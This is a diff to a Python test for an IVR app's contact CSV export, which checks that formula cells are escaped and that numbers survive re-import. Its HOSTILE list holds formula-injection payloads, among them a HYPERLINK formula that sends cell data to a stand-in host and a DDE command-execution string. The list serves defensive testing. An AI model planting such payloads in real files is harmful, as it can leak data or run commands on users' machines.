@@ -17,7 +17,7 @@ from ivr.api.access import AccessService
 from ivr.api.app import build_app
 from ivr.api.services import Services
 from ivr.campaigns.service import CampaignService
-from ivr.campaigns import contacts
+from ivr.campaigns import contacts, contacts_parse
 
 HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1"]
@@ -74,8 +74,8 @@ async def test_contact_export_cells_cannot_be_formulas_and_numbers_read_back() -
     row = next(csv.DictReader(io.StringIO(out.getvalue())))
     assert row["number"] == "'+442079460000" and row["name"].startswith("'=") and row["last_outcome"] == "'-x"
     # the apostrophe does not stop the number being used again: an import reads it as it was
-    again = contacts.validate_row({"number": row["number"], "name": "Ann"}, 2)
-    assert isinstance(again, contacts.Contact) and again.number == "+442079460000"
+    again = contacts_parse.validate_row({"number": row["number"], "name": "Ann"}, 2)
+    assert isinstance(again, contacts_parse.Contact) and again.number == "+442079460000"
 
 
 async def test_contact_export_needs_a_supervisor() -> None:
